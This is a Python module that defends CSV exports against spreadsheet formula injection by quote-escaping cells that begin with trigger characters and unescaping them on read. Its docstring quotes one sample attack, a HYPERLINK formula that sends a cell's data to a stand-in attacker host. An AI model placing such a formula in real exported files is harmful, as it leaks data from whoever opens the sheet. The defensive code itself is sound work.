"""CSV cells a spreadsheet would run as formulas, written inert and read back as they were.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or DDE call) to
Excel, LibreOffice and Google Sheets: a label or trace intent holding
`=HYPERLINK("http://evil.example/?d="&A1,"click me")` would run on the reviewer's machine. OWASP's CSV
injection advice is to prefix such a cell with a single quote, which spreadsheets read as "this is text"
and hide.

The rule, reversible for every text:

- escape: a text that starts with any number of `'` (zero included) followed by a trigger character gets
  one more `'` in front. So `=A1` is written `'=A1`, and a text that genuinely is `'=A1` is written
  `''=A1`.
- unescape: a cell that starts with one or more `'` followed by a trigger character loses one `'`.
  Every other cell is read as it stands.

unescape(escape(text)) == text for every text: escaped cells are exactly those matching `'+` then a
trigger, and a text left alone never matches that. A cell a spreadsheet saved after a person typed
`'=x` (Excel writes `=x`, dropping its text marker) reads as `=x`, which is what the person meant.

A plain number (`-0.5`, `+3`, `1e-3`) is not escaped: a spreadsheet reads it as a number and can run
nothing in it, and numeric columns such as judge_score stay numbers in the sheet. Values that are not
text at all (numbers, booleans, None) are passed through for the csv module to write.
"""

from __future__ import annotations

import re
from numbers import Number

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_ESCAPE = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def escape_cell(value):
    """The cell as written: text a spreadsheet would execute gets a leading `'`; anything else as it is."""
    if value is None or isinstance(value, (bool, Number)):
        return value
    text = value if isinstance(value, str) else str(value)
    if _NEEDS_ESCAPE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def unescape_cell(value):
    """The text a written cell stands for: one leading `'` dropped where escape_cell added it."""
    if isinstance(value, str) and _ESCAPED.match(value):
        return value[1:]
    return value


def escape_row(values):
    return [escape_cell(v) for v in values]


def unescape_record(record: dict) -> dict:
    return {k: unescape_cell(v) for k, v in record.items()}
